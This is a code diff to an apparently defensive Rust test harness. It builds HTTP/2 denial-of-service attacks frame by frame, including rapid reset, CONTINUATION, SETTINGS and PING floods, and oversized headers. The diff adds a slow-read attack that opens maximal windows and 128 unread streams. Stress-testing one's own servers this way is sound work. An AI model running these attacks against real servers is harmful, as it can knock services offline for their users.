@@ -1,7 +1,8 @@
 //! HTTP/2 attacks written frame by frame over TLS (ALPN h2): rapid reset (CVE-2023-44487),
 //! CONTINUATION flood (CVE-2024-27316 class), SETTINGS and PING floods that never read the
-//! acknowledgements, and an oversized header list. Each runs on one connection while the
-//! caller measures the peer and a normal client.
+//! acknowledgements, an oversized header list, and streams of large answers that are never
+//! read (the answers the peer queues for them). Each runs on one connection while the caller
+//! measures the peer and a normal client.
 
 use std::net::SocketAddr;
 use std::sync::Arc;
@@ -24,15 +25,17 @@ pub enum Attack {
     SettingsFlood,
     PingFlood,
     HugeHeaders,
+    SlowReadStreams,
 }
 
 impl Attack {
-    pub const ALL: [Attack; 5] = [
+    pub const ALL: [Attack; 6] = [
         Attack::RapidReset,
         Attack::ContinuationFlood,
         Attack::SettingsFlood,
         Attack::PingFlood,
         Attack::HugeHeaders,
+        Attack::SlowReadStreams,
     ];
 
     pub fn id(self) -> &'static str {
@@ -42,6 +45,7 @@ impl Attack {
             Attack::SettingsFlood => "settings-flood",
             Attack::PingFlood => "ping-flood",
             Attack::HugeHeaders => "huge-headers",
+            Attack::SlowReadStreams => "slow-read-streams",
         }
     }
 
@@ -54,6 +58,9 @@ impl Attack {
             Attack::SettingsFlood => "SETTINGS frames, acknowledgements never read",
             Attack::PingFlood => "PING frames, acknowledgements never read",
             Attack::HugeHeaders => "one request whose header list is 1 MiB (64 fields of 16 KiB)",
+            Attack::SlowReadStreams => {
+                "windows of 2 GiB, 128 streams of a 1 MiB answer, nothing read for the budget's time"
+            }
         }
     }
 }
@@ -118,6 +125,7 @@ const RST_STREAM: u8 = 0x3;
 const SETTINGS: u8 = 0x4;
 const PING: u8 = 0x6;
 const GOAWAY: u8 = 0x7;
+const WINDOW_UPDATE: u8 = 0x8;
 const CONTINUATION: u8 = 0x9;
 const END_STREAM: u8 = 0x1;
 const END_HEADERS: u8 = 0x4;
@@ -162,10 +170,26 @@ fn literal(out: &mut Vec<u8>, name: &str, value: &[u8]) {
 fn request_block() -> Vec<u8> {
     // :method GET (static 2), :scheme https (7), :path / (4) indexed; :authority (1) literal.
     let mut b = vec![0x82, 0x87, 0x84];
-    hpack_int(&mut b, 0x00, 4, 1);
-    hpack_int(&mut b, 0, 7, HOST.len());
-    b.extend_from_slice(HOST.as_bytes());
+    authority(&mut b);
     b
+}
+
+/// `GET https://<HOST>/big` (the backend's 1 MiB answer) as an HPACK block.
+fn big_request_block() -> Vec<u8> {
+    // :method GET, :scheme https indexed; :path (4) with a literal value; :authority.
+    let mut b = vec![0x82, 0x87];
+    hpack_int(&mut b, 0x00, 4, 4);
+    hpack_int(&mut b, 0, 7, 4);
+    b.extend_from_slice(b"/big");
+    authority(&mut b);
+    b
+}
+
+/// `:authority` (static 1) with HOST, not indexed.
+fn authority(b: &mut Vec<u8>) {
+    hpack_int(b, 0x00, 4, 1);
+    hpack_int(b, 0, 7, HOST.len());
+    b.extend_from_slice(HOST.as_bytes());
 }
 
 /// A TLS connection that negotiated h2, preface and empty SETTINGS sent.
@@ -243,7 +267,11 @@ pub async fn run(
     // The floods of acknowledgements are the point of SETTINGS and PING floods: read nothing
     // until the budget is spent (the peer must bound what it queues for a client that does
     // not read), then look for its GOAWAY.
-    let reads_during = !matches!(attack, Attack::SettingsFlood | Attack::PingFlood);
+    // Slow readers too: the peer must bound what it queues for streams nobody reads.
+    let reads_during = !matches!(
+        attack,
+        Attack::SettingsFlood | Attack::PingFlood | Attack::SlowReadStreams
+    );
     let linger = Duration::from_secs(3);
     let (reader, rd) = if reads_during {
         (
@@ -255,6 +283,10 @@ pub async fn run(
     };
     let started = Instant::now();
     let sent = send(attack, &mut wr, budget).await;
+    if attack == Attack::SlowReadStreams {
+        // The requests are out at once; the answers pile up for the budget's time.
+        tokio::time::sleep_until((started + budget.time).into()).await;
+    }
     let seconds = started.elapsed().as_secs_f64();
     let received = match (reader, rd) {
         (Some(r), _) => {
@@ -346,6 +378,9 @@ impl Batches {
         if self.attack == Attack::HugeHeaders {
             return (self.made == 0).then(|| self.huge_headers());
         }
+        if self.attack == Attack::SlowReadStreams {
+            return (self.made == 0).then(|| self.slow_read_streams(left));
+        }
         let mut batch = Vec::with_capacity(64 * 1024);
         let n = left.min(64);
         for _ in 0..n {
@@ -376,11 +411,33 @@ impl Batches {
                 Attack::PingFlood => {
                     batch.extend(frame(PING, 0, 0, &(self.made as u64).to_be_bytes()))
                 }
-                Attack::HugeHeaders => {}
+                Attack::HugeHeaders | Attack::SlowReadStreams => {}
             }
             self.made += 1;
         }
         Some((batch, n))
+    }
+
+    /// The largest windows a client can give (SETTINGS_INITIAL_WINDOW_SIZE and the
+    /// connection's WINDOW_UPDATE, 2^31 - 1 each), then 128 requests for 1 MiB answers (nginx's
+    /// and ours' default stream limit).
+    fn slow_read_streams(&mut self, left: usize) -> (Vec<u8>, usize) {
+        const MAX_WINDOW: u32 = (1 << 31) - 1;
+        let mut batch = frame(
+            SETTINGS,
+            0,
+            0,
+            &[&[0, 4][..], &MAX_WINDOW.to_be_bytes()].concat(),
+        );
+        let grow = MAX_WINDOW - 65_535;
+        batch.extend(frame(WINDOW_UPDATE, 0, 0, &grow.to_be_bytes()));
+        let block = big_request_block();
+        let n = left.min(128);
+        for i in 0..n as u32 {
+            batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, &block));
+        }
+        self.made = n;
+        (batch, n)
     }
 
     /// One request whose header list is 64 fields of 16 KiB, in HEADERS + CONTINUATION frames.
